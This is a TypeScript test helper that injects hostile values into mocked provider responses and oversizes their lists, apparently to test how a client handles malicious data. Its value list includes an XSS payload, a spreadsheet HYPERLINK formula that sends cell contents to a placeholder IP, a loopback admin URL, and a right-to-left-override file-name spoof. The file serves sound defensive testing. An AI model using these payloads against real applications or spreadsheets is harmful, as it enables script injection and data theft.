import type { Answer } from '../../support/provider-server.ts';

/** What a field holds when the provider, or who registered what it tells of, means harm. */
export const hostileValues: readonly (readonly [string, unknown])[] = [
  ['a script', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['a formula', '=HYPERLINK("http://192.0.2.1/?"&A1,"click")'],
  ['control characters', '\u001b[2J\u0000\u0007 \r\nline\u2028two \u202egnp.exe\u200b\ufeff'],
  ['half a character', '\ud800'],
  ['a very long text', 'long '.repeat(5_000)],
  ['an address of the loopback', 'http://127.0.0.1:8080/admin'],
  ['a text of spaces', ' \t\n '],
  ['a number', 7],
  ['a number beyond all bounds', 1e308],
  ['a negative number', -1],
  ['true', true],
  ['null', null],
  ['a list', ['a', ['b', ['c']]]],
  ['an object', { toString: 'x', valueOf: 1, length: 1e9 }],
];

/** The answers with the value in place of every leaf at once; and with every list repeated without measure. */
export function hostileForms(answers: readonly Answer[], value: unknown): readonly (readonly Answer[])[] {
  const change = (leaf: (one: unknown) => unknown, list: (items: unknown[]) => readonly unknown[]) =>
    answers.map((answer) => ({ ...answer, body: bodyWith(answer.body, (json) => walked(json, leaf, list)) }));
  return [
    change(
      () => value,
      (items) => items,
    ),
    change(
      (one) => (typeof one === 'string' ? value : one),
      (items) => items,
    ),
    change(
      (one) => one,
      (items) => crowd(items, value),
    ),
  ];
}

/** A list that goes on for two thousand items, or for a megabyte: over the cap of the policy nothing would be read. */
function crowd(items: readonly unknown[], value: unknown): readonly unknown[] {
  if (items.length === 0) return items;
  const pairs = Math.floor(1_000_000 / (JSON.stringify([items, value]).length + 2));
  return Array.from({ length: Math.min(2000, 2 * pairs) }, (_, at) => (at % 2 === 0 ? items[(at / 2) % items.length] : value));
}

function bodyWith(body: unknown, change: (json: unknown) => unknown): unknown {
  if (typeof body !== 'string') return change(body);
  try {
    return change(JSON.parse(body));
  } catch {
    const lines = body.split('\n');
    if (lines.length > 1) return lines.map((line) => (line === '' ? '' : textOf(bodyWith(line, change)))).join('\n');
    return textOf(change(body)); // not JSON: the whole of it is one value
  }
}

function textOf(value: unknown): string {
  return typeof value === 'string' ? value : (JSON.stringify(value) ?? '');
}

function walked(json: unknown, leaf: (one: unknown) => unknown, list: (items: unknown[]) => readonly unknown[]): unknown {
  if (Array.isArray(json)) return list(json.map((item) => walked(item, leaf, (items) => items)));
  if (json === null || typeof json !== 'object') return leaf(json);
  return Object.fromEntries(Object.entries(json).map(([name, inner]) => [name, walked(inner, leaf, list)]));
}
